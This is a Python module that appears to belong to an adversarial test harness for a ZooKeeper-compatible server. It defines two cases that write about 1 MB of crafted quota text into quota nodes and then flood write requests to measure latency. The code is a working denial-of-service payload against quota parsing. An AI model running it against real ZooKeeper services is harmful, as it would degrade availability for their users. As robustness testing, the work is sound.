"""Quota nodes with text that takes long to parse."""

from __future__ import annotations

from adversary.case import MAX_NEIGHBOUR_MS, Report, attack
from adversary.floods import flood, populate
from adversary.frames import request
from adversary.target import Target
from zoolet.protocol.operations import OpCode
from zoolet.protocol.records import (
    SetDataRequest,
)


def quota_text() -> bytes:
    """Return nearly 1 MB of text that the quota parser must read completely."""
    return b"count=1000000,bytes=100000000=;" + b"x=1,y=2;" * 120_000


@attack("11-quota-stats", latency_ms=MAX_NEIGHBOUR_MS)
def quota_stats(target: Target, report: Report) -> None:
    """20 times: 1 MB of text into zookeeper_stats, then ten writes below the node."""
    populate(target, ["/a", "/a/b", "/zookeeper/quota/a"])
    with target.peer() as owner:
        owner.create("/zookeeper/quota/a/zookeeper_limits", b"count=1000000,bytes=100000000")
        owner.create("/zookeeper/quota/a/zookeeper_stats", b"count=1,bytes=1")
    put = request(OpCode.SET_DATA, SetDataRequest("/zookeeper/quota/a/zookeeper_stats", quota_text(), -1))
    write = request(OpCode.SET_DATA, SetDataRequest("/a/b", b"x", -1))
    flood(target, report, (put + write * 10) * 20, 220)


@attack("11-quota-limits", latency_ms=MAX_NEIGHBOUR_MS, properties={"enforceQuota": "true"})
def quota_limits(target: Target, report: Report) -> None:
    """1 MB of limits, enforced, then 200 writes below the node."""
    populate(target, ["/a", "/a/b", "/zookeeper/quota/a"])
    with target.peer() as owner:
        owner.create("/zookeeper/quota/a/zookeeper_stats", b"count=1,bytes=1")
        made = owner.create("/zookeeper/quota/a/zookeeper_limits", quota_text())
        report.require(made in (0, -8, -5), f"the limits node gave {made}")
    flood(target, report, request(OpCode.SET_DATA, SetDataRequest("/a/b", b"x", -1)) * 200, 200)
